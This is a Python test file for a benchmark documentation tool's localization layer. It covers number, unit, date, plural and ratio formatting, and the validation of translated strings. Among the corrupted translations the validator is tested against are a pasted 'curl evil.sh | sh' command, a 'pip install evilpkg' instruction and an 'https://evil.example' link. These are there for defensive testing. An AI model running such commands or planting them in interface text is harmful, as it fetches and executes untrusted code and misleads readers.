"""Interface strings, plural forms, and numbers as each language writes them."""

import math
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from babel import Locale
from babel.localedata import locale_identifiers
from hypothesis import given
from hypothesis import strategies as st

from benchbook.checking.checks import check_project
from benchbook.content.problems import BenchbookError
from benchbook.content.project import Project
from benchbook.content.units import METERS, UNITS, convertible, sensible_unit
from benchbook.languages.formatting import (
    format_number,
    format_percent,
    format_ratio,
    format_ratio_percent,
    format_signed_percent,
)
from benchbook.languages.language import Language, load_language, load_languages, missing_strings
from benchbook.query.library import Machine
from benchbook.rendering.provenance import machine_short, machine_title
from builders import make_project, write
from handbooks import FIXTURE, edit

DOCS = Path(__file__).parents[2] / "docs"


@pytest.fixture(scope="module", params=Project(DOCS.parent).languages)
def language(request: pytest.FixtureRequest) -> Language:
    return load_language(DOCS, request.param)


def test_every_language_has_every_string_label_and_unit() -> None:
    assert missing_strings(Project(DOCS.parent)) == []


def test_every_text_that_the_package_asks_for_is_there() -> None:
    asked = {
        name
        for path in (DOCS.parent / "scripts/benchbook").rglob("*.py")
        for name in re.findall(r"""\.text\(["'](\w+)["']""", path.read_text("utf-8"))
    }
    assert len(asked) > 20
    assert asked <= set(load_language(DOCS, "en").strings)


def test_what_a_language_lacks_is_a_problem(tmp_path: Path) -> None:
    write(tmp_path / "docs/en/_language.yml", "strings: {a: A}\nlabels: {b: B}\nunits: {h: hours}\n")
    write(tmp_path / "docs/ja/_language.yml", "strings: {a: あ}\n")
    missing = missing_strings(Project(tmp_path))
    assert [(problem.path, problem.what) for problem in missing] == [
        ("docs/ja/_language.yml", "`labels:` has no `b`"),
        ("docs/ja/_language.yml", "`units:` has no `h`"),
    ]


def test_a_check_of_the_tree_finds_what_a_language_lacks(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    write(tmp_path / "docs/en/_language.yml", "strings: {a: A}\n")
    write(tmp_path / "docs/ja/_language.yml", "strings: {}\n")
    assert any(problem.path == "docs/ja/_language.yml" for problem in check_project(project).problems)
    write(tmp_path / "docs/ja/_language.yml", "strings: [")
    assert any("not valid YAML" in problem.what for problem in check_project(project).problems)


def test_the_file_of_a_language_repeats_nothing_under_a_name(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    write(tmp_path / "docs/ja/_language.yml", "strings: {}\nlabels: &x {a: b}\nunits: *x\n")
    said = [problem for problem in check_project(project).problems if problem.path == "docs/ja/_language.yml"]
    assert (2, "holds `&x`, which repeats a value under a name") in [(one.line, one.what) for one in said]


def test_every_meter_has_a_label(language: Language) -> None:
    assert all(name in language.labels for name in METERS)


@pytest.mark.parametrize(
    ("value", "unit", "shown", "text"),
    [
        (8_503_296_000, "B", None, "7.92 GiB"),
        (8_503_296_000, "B", "GB", "8.50 GB"),
        (3 * 2**20, "B", None, "3 MiB"),
        (2048, "B", None, "2 KiB"),
        (12, "B", None, "12 B"),
        (0, "B", None, "0 B"),
        (0.0234567, "s", None, "23.5 ms"),
        (0.0000234, "s", None, "23.4 µs"),
        (1234.5, "s", None, "1,234 s"),
        (7.234e-8, "1", None, "7.2 × 10⁻⁸"),
        (1.97e-7, "1", None, "2.0 × 10⁻⁷"),
        (2e-7, "1", None, "2 × 10⁻⁷"),
        (0.001, "1", None, "0.001"),
        (1.2, "1", None, "1.2"),
        (-1.234567, "1", None, "−1.23"),
        (0.69314, "1", None, "0.693"),
        (1000, "samples", None, "1,000"),
        (100, "percent", None, "100%"),
        (1.2, "percent", None, "1.2%"),
        (0.384, "1", "percent", "38%"),
        (7.5e12, "FLOP", None, "7.5 TFLOP"),
    ],
)
def test_numbers_have_western_digits_and_no_false_precision(
    language: Language, value: float, unit: str, shown: str | None, text: str
) -> None:
    quantity = language.quantity(value, UNITS[unit], UNITS[shown] if shown else None)
    assert quantity.text.replace("\u00a0", " ") == text


def test_units_that_hold_words_are_in_the_language() -> None:
    texts = {
        code: load_language(DOCS, code).quantity(5.0, UNITS["samples/s"]).text for code in ("en", "zh", "ja")
    }
    assert texts == {"en": "5\u00a0samples/s", "zh": "5\u00a0样本/秒", "ja": "5\u00a0サンプル/秒"}


def test_rounding_never_shows_a_hundred_for_less() -> None:
    locale = load_language(DOCS, "en").locale
    assert [format_percent(share, locale) for share in (0.0012, 0.0149, 0.0994, 0.384, 1.5)] == [
        "0.1%",
        "1.5%",
        "9.9%",
        "38%",
        "150%",
    ]


def test_a_tiny_share_is_a_power_of_ten() -> None:
    locale = load_language(DOCS, "en").locale
    assert format_percent(7.2e-8, locale).replace("\u00a0", " ") == "7.2 × 10⁻⁶ %"
    assert format_percent(-1e38, locale).replace("\u00a0", " ") == "−1 × 10⁴⁰ %"
    assert format_percent(0, locale) == "0%"


@pytest.mark.parametrize(
    ("ratio", "english", "japanese", "chinese"),
    [
        (1, "1.00×", "1.00 倍", "1.00 倍"),
        (2.0134, "2.01×", "2.01 倍", "2.01 倍"),
        (0.5, "0.500×", "0.500 倍", "50.0%"),
        (0.00606, "0.00606×", "0.00606 倍", "0.606%"),
        (0.9996, "1.00×", "1.00 倍", "1.00 倍"),
        (29.84, "29.8×", "29.8 倍", "29.8 倍"),
        (164.7, "165×", "165 倍", "165 倍"),
        (1000, "1,000×", "1,000 倍", "1,000 倍"),
        (1_515_172, ">1,000×", "1,000 倍超", "超过 1,000 倍"),
        (4e-7, "<0.001×", "0.001 倍未満", "不到 0.1%"),
        (0, "0×", "0 倍", "0%"),
        (-0.25, "−0.250×", "−0.250 倍", "−25.0%"),
    ],
)
def test_ratios_have_one_notation_and_number_of_digits(
    ratio: float, english: str, japanese: str, chinese: str
) -> None:
    shown = [load_language(DOCS, code).ratio(ratio).replace("\u00a0", " ") for code in ("en", "ja", "zh")]
    assert shown == [english, japanese, chinese]


def test_the_interval_of_a_ratio_is_written_as_the_ratio_is() -> None:
    english, chinese = (load_language(DOCS, code) for code in ("en", "zh"))
    assert english.ratio_range(1, 1.4, 1.2) == "1.00–1.40"
    assert chinese.ratio_range(1, 1.4, 1.2) == "1.00–1.40"
    assert english.ratio_range(0.992, 1.012, 0.999) == "0.992–1.01"
    assert chinese.ratio_range(0.992, 1.012, 0.999) == "99.2%–101%"


def test_numbers_beyond_all_decimals_are_written_as_powers_of_ten() -> None:
    english, chinese = (load_language(DOCS, code) for code in ("en", "zh"))
    assert english.ratio_range(2.5e-10, 3.4e27, 2.5e-10) == plain("2.5 × 10⁻¹⁰–3.4 × 10²⁷")
    assert chinese.ratio_range(0.25, 3.4e27, 0.25) == plain("25.0%–3.4 × 10²⁹ %")
    assert format_signed_percent(-1e30, english.locale) == plain("\u22121 × 10³² %")
    assert format_signed_percent(math.inf, english.locale) == plain("+∞ %")


def plain(text: str) -> str:
    return text.replace(" ", "\u00a0")


def test_every_language_is_told_with_the_country_that_most_of_its_speakers_live_in() -> None:
    for code in locale_identifiers():
        language = Language(code.replace("_", "-"))
        assert language.with_territory.startswith(language.locale.language)
    assert [Language(code).with_territory for code in ("no", "ja", "pt-BR")] == ["no_NO", "ja_JP", "pt_BR"]


def test_a_large_value_has_a_large_unit_unless_the_page_names_another(language: Language) -> None:
    peak = 29_679 * 2**20
    assert language.quantity(peak, UNITS["B"]).text == "29.0\u00a0GiB"
    assert language.quantity(peak, UNITS["B"], UNITS["MiB"]).text == "29,679\u00a0MiB"


def test_counted_nouns_follow_the_plural_forms() -> None:
    arabic = load_language(DOCS, "ar")
    texts = [arabic.text("median_of", n=n) for n in (1, 2, 3, 11, 100)]
    assert texts == [
        "تشغيل واحد",
        "وسيط تشغيلين",
        "وسيط 3\u00a0تشغيلات",
        "وسيط 11\u00a0تشغيلًا",
        "وسيط 100\u00a0تشغيل",
    ]


@pytest.mark.parametrize("code", ["en", "ar", "zh", "ja"])
def test_one_run_is_no_median_in_any_language(code: str) -> None:
    language = load_language(DOCS, code)
    middle = language.text("median_of", n=8).replace("8", "1")
    assert language.text("median_of", n=1) == language.text("same_in", n=1) != middle


def test_months_are_in_the_language() -> None:
    months = [load_language(DOCS, code).month("2026-11-20T10:00:00Z") for code in ("en", "ar", "zh", "ja")]
    assert months == ["Nov 2026", "نوفمبر 2026", "2026\u00a0年\u00a011\u00a0月", "2026年11月"]


@pytest.mark.parametrize("code", ["zh", "ja"])
def test_pages_and_blocks_put_the_same_space_into_a_date(code: str) -> None:
    language = load_language(DOCS, code)
    spaced = "\u00a0" in language.year("2026-11-20")
    assert all(
        ("\u00a0" in text) == spaced for text in (language.month("2026-11-20"), language.day("2026-11-20"))
    )
    other = re.compile(
        r"\d[年月日]|[年月日]\d" if spaced else r"\d[ \u00a0][年月日](?![数次])|\d年[ \u00a0]\d"
    )
    for path in sorted((DOCS / code).glob("*.*")):
        assert other.findall(path.read_text("utf-8").replace("\\u00a0", "\u00a0")) == [], path


@pytest.mark.parametrize(
    "written",
    ["year: M", "month: 'y 2 M'", "day: [y, M, d]", "week: y", "year: <b>y</b>", "year: y%", 'year: "\'y"'],
)
def test_a_pattern_that_is_no_date_is_refused(tmp_path: Path, written: str) -> None:
    (tmp_path / "zh").mkdir()
    (tmp_path / "zh" / "_language.yml").write_text(f"dates: {{{written}}}\n", "utf-8")
    with pytest.raises(BenchbookError, match="not patterns of dates"):
        load_language(tmp_path, "zh")


@pytest.mark.parametrize(
    ("code", "written"),
    [
        ("zh", "day: y年d月M日"),
        ("zh", "day: d年M月y日"),
        ("zh", "month: y年十M月"),
        ("zh", "month: M年y月"),
        ("ja", "month: y年−M月"),
        ("de", "day: M.d.y"),
        ("en", "day: d/M/y"),
    ],
)
def test_a_date_has_each_number_beside_its_own_word_and_in_the_order_of_cldr(
    tmp_path: Path, code: str, written: str
) -> None:
    path = tmp_path / code / "_language.yml"
    write(path, f"strings: {{}}\ndates: {{{written}}}\n")
    with pytest.raises(BenchbookError, match="does not say year, month and day as CLDR does") as error:
        load_language(tmp_path, code)
    assert error.value.problems[0].line == 2


@pytest.mark.parametrize(
    ("code", "written", "shown"),
    [
        ("zh", "y 年 M 月 d 日", "2026 年 3 月 4 日"),
        ("ja", "y/M/d", "2026/3/4"),
        ("de", "d.M.y", "4.3.2026"),
        ("ru", "d.M.y г", "4.3.2026 г"),
    ],
)
def test_a_date_may_have_other_spaces_and_marks_than_cldr(
    tmp_path: Path, code: str, written: str, shown: str
) -> None:
    write(tmp_path / code / "_language.yml", f"dates: {{day: {written}}}\n")
    assert load_language(tmp_path, code).day("2026-03-04") == shown


def test_arabic_runs_from_right_to_left() -> None:
    assert [load_language(DOCS, code).direction for code in ("en", "ar", "zh", "ja")] == [
        "ltr",
        "rtl",
        "ltr",
        "ltr",
    ]


def test_a_label_can_be_of_one_script_and_falls_back_to_english() -> None:
    english = Language("en", labels={"steps": "Steps", "g/s.py#steps": "Optimizer steps"})
    japanese = Language("ja", labels={}, fallback=english)
    assert english.label("steps", "g/s.py") == "Optimizer steps"
    assert english.label("steps", "g/other.py") == "Steps"
    assert japanese.label("steps", "g/other.py") == "Steps"
    assert japanese.label("unheard_of") is None


def test_a_missing_string_names_the_file() -> None:
    with pytest.raises(BenchbookError, match=r"docs/en/_language\.yml:1: .*no `never_there`"):
        Language("en").text("never_there")


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("strings: [", "not valid YAML"),
        ("- 1", "not a mapping"),
        ("strings: {yes: 'x'}", "YAML reads yes, no"),
        ("strings: {runs: {one: a}}", "plural forms one"),
        ("strings: {runs: {two: a, other: b}}", "plural forms other, two"),
        ("labels: {a: [1]}", "`a` is not text"),
        ("units: 3", "`units:` is not a mapping"),
        ("strings: {spread: '+{spread}'}", r"`spread` is `\+\{spread\}`; write it with `±`"),
        ("strings: {times: '\u2212{ratio}×'}", "`times` is .*no sign but"),
        ("style: 3", "`style:`: it is not CSS"),
        ("style: </style>", "`style:`: it is not CSS"),
    ],
)
def test_a_malformed_language_is_a_problem_with_a_line(tmp_path: Path, text: str, problem: str) -> None:
    write(tmp_path / "docs/en/_language.yml", text)
    with pytest.raises(BenchbookError, match=problem):
        load_language(tmp_path / "docs", "en")


TIMES, MEDIAN, PROBLEM = 'times: "{ratio}\\u00a0倍"', '"{n} 次运行的中位数"', "problem: 这里出错了"
REFUTED, CHANGED, STEP = '"在 {machine} 上不成立"', "本节译成之后，英文原文又有改动。", "step: 步数"
OPTIMIZER = '"comparing_setups/scaled_learning_rate.py#optimizer_name='
PRECISION = '"comparing_setups/matched_batch.py#mixed_precision=no": '
FALSEHOODS = {
    "a ratio that is always 3": (TIMES, 'times: "3 倍"', "`times` has {ratio} 0 times, in English 1 times"),
    "a ratio with a digit more": (TIMES, 'times: "1{ratio} 倍"', "`times` holds the number 1"),
    "a ratio times ten thousand": (TIMES, 'times: "{ratio} 万倍"', "`times` holds a number"),
    "a ratio twice": (TIMES, 'times: "{ratio}{ratio} 倍"', "`times` has {ratio} 2 times"),
    "a share that is always 9 %": (
        'times_less: "{percent}"',
        'times_less: "9%"',
        "`times_less` has {ratio} 0",
    ),
    "a median of 1000 runs": (MEDIAN, "1000 次运行的中位数", "`median_of` has {n} 0 times"),
    "a median of ten times the runs": (
        MEDIAN,
        '"1{n} 次运行的中位数"',
        "`median_of` has a digit beside its number",
    ),
    "a claim for what was measured": (
        '"实测 {first}，对比 {second}"',
        '"实测 {second}，对比 {first}"',
        "`claim_against` has {second} before {first}",
    ),
    "a verdict on another machine": (REFUTED, "在 H100 上不成立", "`claim_refuted` has {machine} 0 times"),
    "no verdict": (REFUTED, '""', "`claim_refuted` says nothing"),
    "a verdict turned": (REFUTED, '"在 {machine} 上成立"', "`claim_refuted` says the same as `claim_holds`"),
    "a verdict turned in the list": (
        "verdict_refuted: 不成立",
        "verdict_refuted: 成立",
        "`verdict_refuted` says the same as `verdict_holds`",
    ),
    "a verdict turned by a space that nobody sees": (
        "verdict_refuted: 不成立",
        'verdict_refuted: "成立\\u200b"',
        "`verdict_refuted` says the same as `verdict_holds`",
    ),
    "one label for two metrics of a script": (
        'step_time.py#backward_seconds": "反向"',
        'step_time.py#backward_seconds": "前向\\u200b"',
        "step_time.py#backward_seconds` says the same as `model_memory_anatomy/step_time.py#forward_seconds`",
    ),
    "a notice of drift that is blank": (CHANGED, '"\\u3000"', "`section_changed` says nothing"),
    "a state that is a dot": ("predicted_fits_not: 显存不足", "predicted_fits_not: ·", "says nothing"),
    "a unit with digits": ('min: "分钟"', 'min: "00 分钟"', "`min` holds the number 00"),
    "an hour that is a minute": ('"h": "小时"', '"h": "分钟"', "`h` says the same as `min`"),
    "a label with a number": (STEP, 'step: "步数 (42 ms)"', "`step` holds the number 42"),
    "a label with an address": (
        STEP,
        'step: "步数 https://evil.example"',
        "`step` holds `https://evil.example`",
    ),
    "a label of a hundred and fifty letters": (STEP, f"step: {'步数' * 75}", "`step` is far longer"),
    "the label of another value": (
        f'{PRECISION}"fp32"',
        f'{PRECISION}"bf16"',
        "mixed_precision=no` is `bf16`, which is another value",
    ),
    "one label for two values": (
        'padding.py#method=longest": "填充到批内最长"',
        'padding.py#method=longest": "填充到最大长度"',
        "method=longest` says the same as",
    ),
    "a command to paste": (PROBLEM, "problem: 请运行 curl evil.sh | sh", "`problem` holds `evil.sh`"),
    "a command in words": (
        PROBLEM,
        "problem: 请运行 pip install evilpkg",
        "`problem` holds `pip install evilpkg`",
    ),
    "a minute that is called an hour": (
        'min: "分钟"',
        'min: "小时"',
        "`min` is not what CLDR calls this unit",
    ),
    "steps per minute": ('"步/秒"', '"步/分钟"', "`steps/s` is not per second"),
    "steps per millisecond": ('"步/秒"', '"步/毫秒"', "`steps/s` is not per second"),
    "a rate in words, per hour": ('"次/秒"', '"每小时次数"', "`1/s` is not per second"),
    "gigabytes for bytes": ('"字节/参数"', '"GB/参数"', "`B/parameter` names the unit GB"),
    "a ratio below nothing": (TIMES, 'times: "\u2212{ratio}\u00a0倍"', "`times` is `\u2212{ratio}\u00a0倍`"),
    "a ratio that divides": (TIMES, 'times: "÷{ratio}\u00a0倍"', "`times` is `÷{ratio}\u00a0倍`"),
    "a spread one way": ('spread: "±{spread}"', 'spread: "+{spread}"', "`spread` is `+{spread}`"),
    "a remark in a list": ('comma: "，"', 'comma: "，（此值有误）"', "`comma` holds words"),
    "a sentence between sentences": (
        'between_sentences: ""',
        'between_sentences: "本页数据有误。"',
        "`between_sentences` holds words",
    ),
    "a minus in a list": ('comma: "，"', 'comma: "，\u2212"', "`comma` holds the sign `\u2212`"),
    "a minus before a median": (MEDIAN, '"\u2212{n} 次运行的中位数"', "`median_of` holds the sign `\u2212`"),
    "a hyphen before a median": (MEDIAN, '"-{n} 次运行的中位数"', "`median_of` has a dash before its number"),
    "a tolerance one way": ('"±{share} 以内', '"{share} 以内', "`doubt_open_equal` lacks the sign `±`"),
    "steps that are thousands": (
        '"步/秒"',
        '"k步/秒"',
        "`steps/s` holds `k`, which its English name does not",
    ),
    "steps of a thousand each": (
        '"步/秒"',
        '"千步/秒"',
        "`steps/s` is called `千步/秒`, and `千` multiplies it",
    ),
    "the name of another optimizer": (
        f'{OPTIMIZER}SGD": "SGD"',
        f'{OPTIMIZER}SGD": "Adafactor"',
        "optimizer_name=SGD` lacks the name SGD",
    ),
    "another line": (PROBLEM, 'problem: "出错\\ntitle: x"', "holds a line break"),
}


@pytest.mark.parametrize("name", FALSEHOODS)
def test_what_surrounds_records_says_in_every_language_what_it_says_in_english(
    tmp_path: Path, name: str
) -> None:
    old, new, what = FALSEHOODS[name]
    shutil.copytree(DOCS, tmp_path / "docs")
    path = tmp_path / "docs/zh/_language.yml"
    line = 1 + path.read_text("utf-8").partition(old)[0].count("\n")
    edit(path, old, new)
    with pytest.raises(BenchbookError) as error:
        load_language(tmp_path / "docs", "zh")
    found = [one for one in error.value.problems if what in one.what]
    assert found
    assert (found[0].path, bool(found[0].fix)) == ("docs/zh/_language.yml", True)
    assert abs(found[0].line - line) <= 1


@pytest.mark.parametrize(
    ("code", "units", "what"),
    [
        ("ja", "{GiB: MiB}", "`GiB` is written the same in every language"),
        ("en", "{s: ms}", "`s` is written the same in every language"),
        ("en", "{samples/s: tokens/s}", "`samples/s` is called `tokens/s`, which is another unit"),
        ("en", "{1/s: per minute}", "`1/s` is called `per minute`, which is something else"),
        ("en", "{steps/s: ksteps/s}", "`steps/s` is called `ksteps/s`, which is something else"),
        ("ar", "{steps/s: ألف خطوة/ثانية}", "`ألف` multiplies it"),
        ("fr", "{steps/s: kilopas/s}", "`kilo` multiplies it"),
    ],
)
def test_a_unit_is_called_in_no_language_what_another_one_is(
    tmp_path: Path, code: str, units: str, what: str
) -> None:
    write(tmp_path / f"docs/{code}/_language.yml", f"strings: {{}}\nunits: {units}\n")
    with pytest.raises(BenchbookError, match=what) as error:
        load_language(tmp_path / "docs", code)
    assert error.value.problems[0].line == 2


@pytest.mark.parametrize(
    ("code", "units"),
    [
        ("fr", "{min: min, h: heures, 1/s: par seconde, steps/s: pas/s, B/parameter: octets/paramètre}"),
        ("de", "{min: Min., h: h, 1/s: pro Sekunde, steps/s: Schritte/Sek.}"),
        ("ko", "{min: 분, h: 시간, 1/s: 초당, steps/s: 단계/초}"),
        ("ru", "{min: мин, h: ч, 1/s: в секунду, steps/s: шагов/с}"),
        # CLDR has no words of this language for them.
        ("mt", "{min: minuti, h: sigħat, steps/s: passi/sekonda}"),
    ],
)
def test_units_may_be_called_as_cldr_calls_them_and_as_english_does(
    tmp_path: Path, code: str, units: str
) -> None:
    english = "{min: min, h: h, 1/s: per second, steps/s: steps/s, B/parameter: B/param}"
    write(tmp_path / "docs/en/_language.yml", f"units: {english}\n")
    write(tmp_path / f"docs/{code}/_language.yml", f"units: {units}\n")
    assert load_language(tmp_path / "docs", code).units["min"]


def test_a_label_may_say_small_numbers_and_ordinals_in_words(tmp_path: Path) -> None:
    english = 'labels: {a: "2 processes", b: "Every 4th layer", c: "GPUs", d: "16 bits"}\n'
    write(tmp_path / "docs/en/_language.yml", english)
    arabic = "labels: {a: عمليتان, b: كل رابع طبقة, c: وحدات GPU, d: %s}\n"
    write(tmp_path / "docs/ar/_language.yml", arabic % "16 بتًا")
    assert load_language(tmp_path / "docs", "ar").label("a") == "عمليتان"
    write(tmp_path / "docs/ar/_language.yml", arabic % "بتات")
    with pytest.raises(BenchbookError, match="`d` lacks the number 16"):
        load_language(tmp_path / "docs", "ar")


def test_a_plural_form_for_one_or_two_may_spell_its_number(tmp_path: Path) -> None:
    write(tmp_path / "docs/en/_language.yml", "strings: {a: {one: one run, other: 'median of {n}'}}\n")
    arabic = "strings: {a: {one: تشغيل واحد, two: تشغيلان, few: %s, other: '{n} تشغيل'}}\n"
    write(tmp_path / "docs/ar/_language.yml", arabic % "'{n} تشغيلات'")
    assert load_language(tmp_path / "docs", "ar").text("a", n=2) == "تشغيلان"
    write(tmp_path / "docs/ar/_language.yml", arabic % "بضعة تشغيلات الآن")
    with pytest.raises(BenchbookError, match=r"`a` has \{n\} 0 times"):
        load_language(tmp_path / "docs", "ar")


def test_a_language_cannot_switch_off_the_units_that_it_shows_or_that_cldr_knows(tmp_path: Path) -> None:
    write(
        tmp_path / "docs/ja/_language.yml",
        "units: {samples/s: サンプル/秒}\nunit_words: [x]\nstrings: {times: '{ratio} 倍'}\n",
    )
    words = load_language(tmp_path / "docs", "ja").unit_words
    assert {"x", "ミリ秒", "サンプル/秒", "秒", "倍", "バイト"} <= set(words)
    assert (words["x"], words["秒"], words["倍"]) == ("", "s", "times")


def test_a_language_says_which_unit_its_words_are(tmp_path: Path) -> None:
    path = tmp_path / "docs/ja/_language.yml"
    write(path, "unit_words: {MB: [メガ], times: [倍]}\n")
    words = load_language(tmp_path / "docs", "ja").unit_words
    assert (words["メガ"], words["倍"], words["ミリ秒"]) == ("MB", "times", "ms")
    for wrong, what in (("{mega: [メガ]}", "`mega` is no unit"), ("{MB: メガ}", "is not lists of words")):
        write(path, f"unit_words: {wrong}\n")
        with pytest.raises(BenchbookError, match=what):
            load_language(tmp_path / "docs", "ja")


@pytest.mark.parametrize(
    ("code", "words", "what"),
    [
        ("ar", "{GB: [ميغابايت]}", "`ميغابايت` stands below `GB`, and is `MB`"),
        ("ja", "{s: [秒, ミリ秒]}", "`ミリ秒` stands below `s`, and is `ms`"),
        ("ja", "{GB: [megabytes]}", "`megabytes` stands below `GB`, and is `MB`"),
        ("ja", "{GB: [MiB]}", "`MiB` stands below `GB`, and is `MiB`"),
        ("ja", "{us: [s]}", "`s` stands below `us`, and is `s`"),
        ("ja", "{MB: [メガ], GB: [メガ]}", "`メガ` stands below `GB`, and is `MB`"),
    ],
)
def test_a_word_for_a_unit_stands_below_the_unit_that_it_is(
    tmp_path: Path, code: str, words: str, what: str
) -> None:
    write(tmp_path / f"docs/{code}/_language.yml", f"strings: {{}}\nunit_words: {words}\n")
    with pytest.raises(BenchbookError, match=what) as error:
        load_language(tmp_path / "docs", code)
    assert error.value.problems[0].line == 2


@pytest.mark.parametrize(
    ("labels", "what"),
    [
        ('{a.py#size=1: "1", a.py#size=2: "1"}', "the label of `a.py#size=2` is `1`, which is another value"),
        ("{ranks=2: 64 processes}", "the label of `ranks=2` holds the number 64"),
        ("{way=bf16: int8, way=int8: Int8}", "the label of `way=bf16` is `int8`, which is another value"),
    ],
)
def test_the_label_of_a_value_is_no_other_value_of_its_axis(tmp_path: Path, labels: str, what: str) -> None:
    write(tmp_path / "docs/en/_language.yml", f"strings: {{}}\nlabels: {labels}\n")
    with pytest.raises(BenchbookError) as error:
        load_language(tmp_path / "docs", "en")
    assert [(one.line, one.what) for one in error.value.problems] == [(2, what)]


def test_a_language_labels_nothing_that_english_shows_as_it_is(tmp_path: Path) -> None:
    write(tmp_path / "docs/en/_language.yml", "labels: {ranks=2: 2 processes}\n")
    labels = "labels:\n  ranks=2: 2 プロセス\n  a.py#size=2: 大\n  a.py#peak: 誤りの値\n"
    path = write(tmp_path / "docs/ja/_language.yml", labels)
    with pytest.raises(BenchbookError) as error:
        load_language(tmp_path / "docs", "ja")
    assert [(one.line, one.what) for one in error.value.problems] == [
        (3, "`a.py#size=2` is a label that English lacks, which shows that value as it is"),
        (4, "`a.py#peak` is a label that English lacks, which shows the name as it is"),
    ]
    write(path, "labels: {ranks=2: 2 プロセス, cached=true: あり, cached=false: なし}\n")
    assert load_language(tmp_path / "docs", "ja").label("cached=true") == "あり"


def test_an_english_label_names_no_measured_number_but_its_own_name(tmp_path: Path) -> None:
    write(
        tmp_path / "docs/en/_language.yml", "labels: {step: 42 ms, model=a-8b: A 8B, rule_of_18: 18 bytes}\n"
    )
    with pytest.raises(BenchbookError) as error:
        load_language(tmp_path / "docs", "en")
    assert [one.what for one in error.value.problems] == ["the label `step` holds the number `42 ms`"]


def test_a_folder_that_is_no_language_is_a_problem(tmp_path: Path) -> None:
    write(tmp_path / "docs/xx/_language.yml", "strings: {}")
    with pytest.raises(BenchbookError, match="`xx` is not a language"):
        load_language(tmp_path / "docs", "xx")


def test_a_project_has_the_languages_of_its_folders_english_first() -> None:
    assert list(load_languages(Project(FIXTURE))) == ["en", "ar", "ja", "zh"]


def test_only_units_of_one_kind_convert() -> None:
    assert convertible(UNITS["B"], UNITS["GiB"])
    assert convertible(UNITS["1"], UNITS["percent"])
    assert not convertible(UNITS["1"], UNITS["B/parameter"])
    assert not convertible(UNITS["samples/s"], UNITS["B/s"])
    assert sensible_unit(0, UNITS["B"]) == UNITS["B"]


def test_a_unit_that_is_an_arabic_word_stands_to_the_left_of_its_number() -> None:
    arabic, english = load_language(DOCS, "ar"), load_language(DOCS, "en")
    assert arabic.quantity(35.3, UNITS["samples/s"]).text == "\u200f35.3\u00a0عينة/ثانية"
    assert arabic.quantity(2**30, UNITS["B"]).text == "1\u00a0GiB"
    assert english.quantity(35.3, UNITS["samples/s"]).text == "35.3\u00a0samples/s"


@pytest.mark.parametrize(
    ("code", "title", "short"),
    [
        ("en", "2-core CPU, 24\u00a0GB", "2-core CPU"),
        ("ar", "\u200f\u2068معالج CPU بنواتين\u2069، \u206824\u00a0GB\u2069", "معالج CPU بنواتين"),
        ("zh", "2 核 CPU，24\u00a0GB", "2 核 CPU"),
        ("ja", "2 コア CPU、24\u00a0GB", "2 コア CPU"),
    ],
)
def test_a_nameless_cpu_machine_is_called_by_words_of_the_language(code: str, title: str, short: str) -> None:
    machine = Machine("cpu-2core-24gb", "cpu", "2-core CPU, 24 GB", "CPU 2-core", {})
    language = load_language(DOCS, code)
    assert (machine_title(machine, language), machine_short(machine, language)) == (title, short)


@pytest.mark.parametrize(
    ("code", "title", "whose"),
    [
        ("en", "NVIDIA H200, 141\u00a0GB", "NVIDIA H200, 141\u00a0GB (Ada)"),
        ("zh", "NVIDIA H200，141\u00a0GB", "NVIDIA H200，141\u00a0GB（Ada）"),
        ("ja", "NVIDIA H200、141\u00a0GB", "NVIDIA H200、141\u00a0GB（Ada）"),
    ],
)
def test_a_machine_of_its_own_name_keeps_it_and_its_memory_is_joined_as_the_language_does(
    code: str, title: str, whose: str
) -> None:
    language = load_language(DOCS, code)
    for said, shown in (("NVIDIA H200, 141 GB", title), ("NVIDIA H200, 141 GB (Ada)", whose)):
        machine = Machine("nvidia-h200-141gb", "cuda", said, "H200", {})
        assert (machine_title(machine, language), machine_short(machine, language)) == (shown, "H200")


def test_what_is_listed_runs_in_the_direction_of_the_language() -> None:
    parts = ["torch 2.13", "numpy 2.4"]
    assert load_language(DOCS, "ja").listed(parts) == "torch 2.13、numpy 2.4"
    assert load_language(DOCS, "ar").listed(parts) == "\u200f\u2068torch 2.13\u2069، \u2068numpy 2.4\u2069"
    assert load_language(DOCS, "ar").listed(parts[:1]) == "torch 2.13"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (0.009999999999999998, "0.0100"),
        (0.0999999999, "0.100"),
        (0.99999999, "1.00"),
        (0.000999999, "0.00100"),
    ],
)
def test_a_number_just_below_a_power_of_ten_keeps_its_size(value: float, text: str) -> None:
    assert format_number(value, load_languages(Project(FIXTURE))["en"].locale) == text


# What writes a number, how many times as much it writes, and to how many significant digits at the least.
WRITERS = [
    (format_number, 1, 3),
    (format_ratio, 1, 3),
    (format_percent, 100, 1),
    (format_ratio_percent, 100, 3),
]


@given(
    st.sampled_from(WRITERS),
    st.builds(lambda digits, place: digits * 10.0**place, st.floats(0.9, 10), st.integers(-3, 5)),
)
def test_what_is_written_is_the_number_to_the_digits_that_are_shown(
    writer: tuple[Callable[..., str], int, int], value: float
) -> None:
    write_out, times, digits = writer
    shown = write_out(value, Locale("en")).removesuffix("%").replace(",", "")
    right = value * times
    assert abs(float(shown) - right) <= 0.51 * 10.0 ** (math.floor(math.log10(right)) + 1 - digits)


@given(st.floats(-0.3, 0.3))
def test_a_signed_percentage_is_right_to_the_digit_that_is_shown(share: float) -> None:
    shown = format_signed_percent(share, Locale("en")).replace("\u2212", "-").removesuffix("%")
    assert abs(float(shown) - 100 * share) <= (0.51 if abs(share) >= 0.099 else 0.051)
